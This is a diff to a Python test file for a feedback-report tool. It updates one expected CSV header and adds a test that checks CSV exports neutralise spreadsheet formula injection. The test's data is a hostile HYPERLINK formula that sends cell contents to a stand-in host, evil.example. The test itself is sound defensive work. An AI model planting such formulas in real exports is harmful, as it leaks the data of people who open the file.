@@ -74,7 +74,7 @@ def test_eval_feedback_prints_the_report(tmp_path: Path, capsys):
     out = capsys.readouterr().out
     assert "4 questions in the last 30 days" in out and "  2x  How do I reset my password?" in out
     assert main(["eval", "--feedback", str(log), "--days", "30", "--csv"]) == 0
-    assert capsys.readouterr().out.startswith("part,question,times,variants,down_votes,shown")
+    assert capsys.readouterr().out.startswith('"part","question","times","variants","down_votes","shown"')
     assert main(["eval", "--feedback", str(tmp_path / "none.sqlite")]) == 1
     assert "question log" in capsys.readouterr().err
 
@@ -122,3 +122,14 @@ def test_grouping_compares_a_question_with_a_few_groups_not_all(monkeypatch: pyt
     questions = [asked(q, at=n) for n, q in enumerate(synthetic_questions(5000, seed=3))]
     group(questions)
     assert compared < 20 * len(questions)  # comparing with every group before would be thousands each
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_report_csv_holds_no_live_formula(start: str):
+    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    found = feedback.report([asked(hostile, covered=False, at=1), asked(hostile, covered=False, at=2)], days=30)
+    text = found.csv()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert [row[1] for row in rows[1:]] == [f"'{hostile}"] * 2  # not covered, and most asked
+    assert all(row[3] == f"'{hostile}" for row in rows[1:])  # the variants too
+    assert text.splitlines()[1].startswith('"not covered","\'')  # every cell quoted, as OWASP advises
